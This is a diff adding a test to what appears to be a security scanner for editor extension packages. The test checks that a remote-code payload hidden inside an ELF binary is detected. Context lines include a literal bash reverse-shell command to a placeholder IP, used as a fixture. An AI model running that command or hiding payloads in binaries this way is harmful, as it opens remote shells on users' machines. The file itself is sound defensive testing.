@@ -251,3 +251,15 @@ def test_a_package_that_no_editor_starts_may_have_a_script_that_installs_for_its
     assert worst({"install.sh": PIPE}, **none) == {"runs-remote-code": Severity.MEDIUM}
     shell = "bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n"
     assert Severity.CRITICAL in worst({"install.sh": shell}, **none).values()
+
+
+def test_the_text_in_a_compiled_program_that_a_shell_gets_is_read() -> None:
+    """A shell that gets one skips what it can't read. The rest of it costs no time."""
+    binary = bytes(range(256)) * 8000
+    program = f"{SPAWN}('sh', ['bin/rg'])"
+    elf = b"\x7fELF\x02\x01\x01\n"
+    polyglot = elf + binary + b"\n" + PIPE.encode() + binary
+    found = worst({"extension.js": program, "bin/rg": polyglot})
+    assert found["runs-remote-code"] == Severity.HIGH
+    honest = worst({"extension.js": program, "bin/rg": elf + binary})
+    assert set(honest) == {"native-binary"}
